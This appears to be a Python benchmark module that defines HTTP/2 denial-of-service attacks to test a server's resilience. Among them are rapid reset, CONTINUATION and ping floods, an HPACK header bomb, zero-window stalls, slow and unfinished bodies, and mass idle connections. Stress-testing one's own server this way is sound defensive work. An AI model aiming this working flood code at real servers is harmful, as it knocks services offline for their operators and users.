"""Attacks over HTTP/2.

Runs in the event loop of a crowd's process.
"""

from __future__ import annotations

import asyncio
import os

from benchmarks.attacks import http2
from benchmarks.attacks.attack import Visitor, attack
from benchmarks.attacks.connection import Connection
from benchmarks.attacks.http2 import field, frame, request, settings, window_update

PAGE = "/page/2000000/"
STREAMS = range(1, 201, 2)


async def connect(visitor: Visitor, *pairs: tuple[int, int], reads: bool = True) -> Connection:
    """Open a connection.

    :param pairs: the client's settings.
    :param reads: whether it reads and throws away what comes.
    """
    connection = await visitor.tls("h2")
    await connection.send(settings(*pairs))
    if reads:
        connection.discard()
    return connection


@attack("h2-window", "HTTP/2: window 0, 100 requests for 2 MB, then a byte allowed every 2 s", clients=3, mixed=True)
async def window(visitor: Visitor) -> None:
    connection = await connect(visitor, (http2.INITIAL_WINDOW_SIZE, 0))
    await connection.send(b"".join(request(stream, PAGE) for stream in STREAMS))
    while True:
        await asyncio.sleep(2)
        await connection.send(b"".join(window_update(stream, 1) for stream in STREAMS))


@attack("h2-unread", "HTTP/2: large windows, 100 requests for 2 MB, not read", clients=3, mixed=True)
async def unread(visitor: Visitor) -> None:
    connection = await connect(visitor, (http2.INITIAL_WINDOW_SIZE, 2**31 - 1), reads=False)
    await connection.send(window_update(0, 2**31 - 1 - 65_535))
    await connection.send(b"".join(request(stream, PAGE) for stream in STREAMS))
    await connection.hold()


@attack("h2-generated", "HTTP/2: window 0, 100 requests for streamed responses", clients=3)
async def generated(visitor: Visitor) -> None:
    connection = await connect(visitor, (http2.INITIAL_WINDOW_SIZE, 0))
    await connection.send(b"".join(request(stream, "/generated/") for stream in STREAMS))
    await connection.hold()


@attack("h2-events", "HTTP/2: window 0, 100 event streams, fed by 64 KiB ten times a second", clients=3)
async def events(visitor: Visitor) -> None:
    connection = await connect(visitor, (http2.INITIAL_WINDOW_SIZE, 0))
    await connection.send(b"".join(request(stream, "/events/") for stream in STREAMS))
    feeder = await connect(visitor)
    for stream in range(1, 2**31, 2):
        await feeder.send(request(stream, "/feed/"))
        await asyncio.sleep(0.1)


@attack("h2-bodies", "HTTP/2: 100 bodies of 65 600 bytes, unfinished", clients=3, mixed=True)
async def bodies(visitor: Visitor) -> None:
    connection = await connect(visitor)
    for stream in STREAMS:
        await connection.send(request(stream, "/upload/", "POST", end=False) + http2.data(stream, b"x" * 65_600))
    await connection.hold()


@attack("h2-small-bodies", "HTTP/2: 100 bodies of 60 KB, unfinished", clients=3)
async def small_bodies(visitor: Visitor) -> None:
    connection = await connect(visitor)
    for stream in STREAMS:
        await connection.send(request(stream, "/upload/", "POST", end=False) + http2.data(stream, b"x" * 60_000))
    await connection.hold()


@attack(
    "h2-slow-bodies",
    "HTTP/2: a byte of a body every 0.5 s (--body-timeout 2)",
    clients=10,
    options=("--body-timeout=2",),
)
async def slow_bodies(visitor: Visitor) -> None:
    connection = await connect(visitor)
    await connection.send(request(1, "/upload/", "POST", end=False))
    while True:
        await connection.send(http2.data(1, b"x"))
        await asyncio.sleep(0.5)


@attack("h2-closed-streams", "HTTP/2: frames of 64 bytes on a closed stream", clients=1)
async def closed_streams(visitor: Visitor) -> None:
    connection = await connect(visitor)
    await connection.send(request(1, "/"))
    await asyncio.sleep(0.5)
    while True:
        await connection.send(http2.data(1, b"x" * 64) * 200)


@attack("h2-closed-unread", "HTTP/2: the same by a client that does not read", clients=1)
async def closed_unread(visitor: Visitor) -> None:
    connection = await connect(visitor, reads=False)
    await connection.send(request(1, "/"))
    await asyncio.sleep(0.5)
    while True:
        await connection.send(http2.data(1, b"x" * 64) * 200)


@attack("h2-pings", "HTTP/2: pings without pause, not read", clients=3)
async def pings(visitor: Visitor) -> None:
    connection = await connect(visitor, reads=False)
    while True:
        await connection.send(frame(http2.PING, 0, 0, b"12345678") * 500)


@attack("h2-settings", "HTTP/2: settings without pause", clients=3)
async def settings_flood(visitor: Visitor) -> None:
    connection = await connect(visitor)
    while True:
        await connection.send(frame(http2.SETTINGS, 0, 0) * 500)


@attack("h2-resets", "HTTP/2: requests reset at once, without pause (rapid reset)", clients=3)
async def resets(visitor: Visitor) -> None:
    connection = await connect(visitor)
    for stream in range(1, 2**31, 2):
        await connection.send(request(stream, "/") + frame(http2.RST_STREAM, 0, stream, b"\0\0\0\x08"))


@attack("h2-made-resets", "HTTP/2: requests that the server has to reset, without pause", clients=3)
async def made_resets(visitor: Visitor) -> None:
    connection = await connect(visitor)
    for stream in range(1, 2**31, 2):
        await connection.send(request(stream, "/") + window_update(stream, 0))


@attack("h2-continuations", "HTTP/2: a head in frames of a byte without end", clients=3)
async def continuations(visitor: Visitor) -> None:
    connection = await connect(visitor)
    await connection.send(frame(http2.HEADERS, 0, 1, b"\x82"))
    while True:
        await connection.send(frame(http2.CONTINUATION, 0, 1, b"\x82") * 200)


@attack("h2-empty-data", "HTTP/2: empty frames of a body", clients=3)
async def empty_data(visitor: Visitor) -> None:
    connection = await connect(visitor)
    await connection.send(request(1, "/upload/", "POST", end=False))
    while True:
        await connection.send(http2.data(1, b"") * 500)


@attack("h2-tiny-data", "HTTP/2: frames of a byte of a body, padded by 200", clients=3)
async def tiny_data(visitor: Visitor) -> None:
    connection = await connect(visitor)
    await connection.send(request(1, "/upload/", "POST", end=False))
    while True:
        await connection.send(frame(http2.DATA, 8, 1, b"\xc8x" + b"\0" * 200) * 200)


@attack("h2-priorities", "HTTP/2: priorities without pause", clients=3)
async def priorities(visitor: Visitor) -> None:
    connection = await connect(visitor)
    while True:
        await connection.send(frame(http2.PRIORITY, 0, 1, b"\0\0\0\0\x10") * 500)


@attack("h2-windows", "HTTP/2: window updates without pause", clients=3)
async def windows(visitor: Visitor) -> None:
    connection = await connect(visitor)
    while True:
        await connection.send(window_update(0, 1) * 500)


@attack("h2-unknown", "HTTP/2: frames of an unknown kind without pause", clients=3)
async def unknown(visitor: Visitor) -> None:
    connection = await connect(visitor)
    while True:
        await connection.send(frame(0xBB, 0, 0, b"x" * 100) * 200)


@attack("h2-bomb", "HTTP/2: heads of 100 bytes that unpack to 30 KB", clients=3)
async def bomb(visitor: Visitor) -> None:
    connection = await connect(visitor)
    large = b"\x40" + field("x", "y" * 3000)[1:]  # enters the table, as its entry 62
    await connection.send(request(1, "/page/1/", fields=large))
    for stream in range(3, 2**31, 2):
        await connection.send(request(stream, "/page/1/", fields=b"\xbe" * 9))


@attack("h2-header-names", "HTTP/2: requests with a header name of 10 KB, each another", clients=3)
async def header_names(visitor: Visitor) -> None:
    connection = await connect(visitor)
    for stream in range(1, 2**31, 2):
        await connection.send(request(stream, "/", fields=field(os.urandom(5_000).hex(), "x")))


@attack("h2-slow-views", "HTTP/2: one connection with 100 slow views at a time", clients=1)
async def slow_views(visitor: Visitor) -> None:
    connection = await connect(visitor)
    for stream in range(1, 2**31, 2):
        await connection.send(request(stream, "/slow/"))
        if stream > 200:
            await asyncio.sleep(0.02)


@attack("h2-health", "HTTP/2: requests for the health check without pause", clients=3)
async def health(visitor: Visitor) -> None:
    connection = await connect(visitor)
    for stream in range(1, 2**31, 2):
        await connection.send(request(stream, "/-/health"))


@attack("h2-silent", "HTTP/2: a connection that sends its preface, then nothing", clients=200)
async def silent(visitor: Visitor) -> None:
    connection = await connect(visitor, reads=False)
    await connection.hold()
